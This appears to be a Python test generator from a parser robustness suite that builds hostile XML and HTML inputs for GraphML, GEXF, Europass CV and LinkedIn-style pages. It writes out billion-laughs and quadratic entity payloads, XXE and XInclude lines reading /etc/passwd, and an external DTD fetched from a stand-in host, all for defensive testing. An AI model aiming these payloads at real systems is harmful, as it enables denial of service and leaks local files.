"""XML and HTML: entities, depth, breadth, encodings, graphs that make no sense."""

from collections.abc import Iterator

from hostile.case import Case, any_end, good, refused
from hostile.forms import GOOD_ROWS, gexf, graphml

LAUGHS = (
    '<!DOCTYPE r [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 12))
    + "]>"
)
_FILE = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_NET = '<!DOCTYPE r SYSTEM "http://192.0.2.1/evil.dtd">'
_PARAMETER = '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://192.0.2.1/p">%p;]>'
_QUADRATIC = '<!DOCTYPE r [<!ENTITY q "' + "x" * 100_000 + '">]>'


def cases() -> Iterator[Case]:
    """Of every XML format, and of pages."""
    for family, name, whole, start in (
        ("graphml", "net.graphml", graphml(GOOD_ROWS), "<graphml"),
        ("gexf", "net.gexf", gexf(GOOD_ROWS), "<gexf"),
        ("europass-xml", "cv.xml", europass(), "<Candidate"),
    ):
        yield from _entities(family, name, whole, start)
        yield from _shapes(family, name, whole)
    yield from _graphs()
    yield from _pages()


def _entities(family: str, name: str, whole: str, start: str) -> Iterator[Case]:
    for what, declared, used in (
        ("billion laughs", LAUGHS, "&a11;"),
        ("a file as an entity", _FILE, "&x;"),
        ("a parameter entity of the net", _PARAMETER, ""),
        ("one long entity many times", _QUADRATIC, "&q;" * 20_000),
    ):
        hostile = whole.replace(start, declared + start, 1).replace("Ada", f"Ada{used}", 1)
        yield refused(family, name, what, hostile)
    yield any_end(family, name, "a DTD of the net", whole.replace(start, _NET + start, 1))


def _shapes(family: str, name: str, whole: str) -> Iterator[Case]:
    deep = "<a>" * 100_000 + "</a>" * 100_000
    end = whole.rindex("</")
    yield any_end(family, name, "100,000 elements deep", whole[:end] + deep + whole[end:])
    broad = "<a " + " ".join(f'b{at}="1"' for at in range(300_000)) + "/>"
    yield any_end(family, name, "300,000 attributes", whole[:end] + broad + whole[end:])
    yield any_end(
        family, name, "2,000,000 elements", whole[:end] + "<a/>" * 2_000_000 + whole[end:]
    )
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    yield any_end(family, name, "an inclusion", whole[:end] + include + whole[end:])
    for lie in ("UTF-16", "x-nothing"):
        content = whole.replace("UTF-8", lie).encode()
        yield Case(family, name, f"an encoding that is not its own: {lie}", content, exits=(0, 2))
    yield any_end(family, name, "a declaration without end", whole.replace("?>", "", 1))
    yield any_end(family, name, "a comment without end", whole[:end] + "<!--" + whole[end:])
    yield any_end(
        family, name, "characters XML forbids", whole.replace("Ada", "Ada\x01\x0b&#0;&#x1F;")
    )
    yield any_end(
        family,
        name,
        "namespaces redeclared 10,000 times",
        whole[:end] + "".join(f'<a xmlns:n{at}="u{at}"/>' for at in range(10_000)) + whole[end:],
    )
    yield any_end(
        family,
        name,
        "20 MB of data in CDATA",
        whole[:end] + "<a><![CDATA[" + "x" * 20_000_000 + "]]></a>" + whole[end:],
    )


def _graphs() -> Iterator[Case]:
    whole = graphml(GOOD_ROWS)
    said = "graphml", "net.graphml"
    end = whole.index("</graph>")
    for what, more in (
        ("ties to nobody", '<edge source="n0" target="nope"/><edge source="" target=""/><edge/>'),
        ("hyperedges", '<hyperedge><endpoint node="n0"/><endpoint node="n1"/></hyperedge>'),
        (
            "ties to oneself and in a circle",
            '<edge source="n0" target="n0"/><edge source="n1" target="n0"/>' * 500,
        ),
        ("ids twice", '<node id="n0"/><node id="n0"/><node/>'),
        ("a graph in a graph 90 deep", '<node id="g"><graph>' * 40 + "</graph></node>" * 40),
        (
            "weights that are none",
            '<edge source="n0" target="n1"><data key="w">NaN</data></edge>' * 5,
        ),
        ("keys that nobody declared", '<node id="k"><data key="zzz">x</data><data>y</data></node>'),
        ("50,000 ties", '<edge source="n0" target="n1"/>' * 50_000),
    ):
        yield good(*said, what, whole[:end] + more + whole[end:])
    other = gexf(GOOD_ROWS)
    end = other.index("</edges>")
    for what, more in (
        ("ties to nobody", '<edge id="x" source="n0" target="nope"/><edge/>'),
        (
            "weights that are none",
            '<edge source="n0" target="n1" weight="1e999"/><edge source="n0" target="n1" weight="NaN"/>',
        ),
    ):
        yield good("gexf", "net.gexf", what, other[:end] + more + other[end:])


def _pages() -> Iterator[Case]:
    said = "linkedin-skills-html", "page.html"
    page = (
        "<!DOCTYPE html><html><head><title>Skills | Ada Goodrow | LinkedIn</title></head><body>"
        '<div componentkey="com.linkedin.sdui.profile.skill(a, 1)"><p>Coaching</p>'
        "<p>12 endorsements</p></div>"
    )
    of = ("--of", "Ada Goodrow")
    for what, more in (
        ("100,000 elements deep", "<div>" * 100_000),
        ("scripts without end", "<script>" + "var a='</scr';" * 100_000),
        ("500,000 attributes", "<p " + "a=1 " * 500_000 + ">"),
        ("20 MB of a data URL", '<img src="data:image/png;base64,' + "A" * 20_000_000 + '">'),
        ("200,000 entities", "&amp;&#x0;&#xD800;&notanentity" * 50_000),
        (
            "a count of a million digits",
            '<div componentkey="com.linkedin.sdui.profile.skill(a, 2)"><p>Law</p><p>'
            + "9" * 1_000_000
            + " endorsements</p></div>",
        ),
        (
            "markup as a skill",
            '<div componentkey="com.linkedin.sdui.profile.skill(a, 3)"><p>&lt;script&gt;alert(1)&lt;/script&gt;</p></div>',
        ),
        (
            "300,000 skills",
            '<div componentkey="com.linkedin.sdui.profile.skill(a, 3)"><p>S</p></div>' * 60_000,
        ),
    ):
        yield Case(*said, what, (page + more).encode(), options=of)


def europass() -> str:
    """A CV of the second generation, as small as it can be."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<Candidate xmlns="http://www.europass.eu/1.0" xmlns:hr="http://www.hr-xml.org/3" '
        'xmlns:oa="http://www.openapplications.org/oagis/9"><CandidatePerson><PersonName>'
        "<oa:GivenName>Ada</oa:GivenName><hr:FamilyName>Goodrow</hr:FamilyName></PersonName>"
        "</CandidatePerson><CandidateProfile><OrganisationalSkills><OrganisationalSkill>"
        "<Title>Coaching</Title></OrganisationalSkill></OrganisationalSkills></CandidateProfile>"
        "</Candidate>"
    )
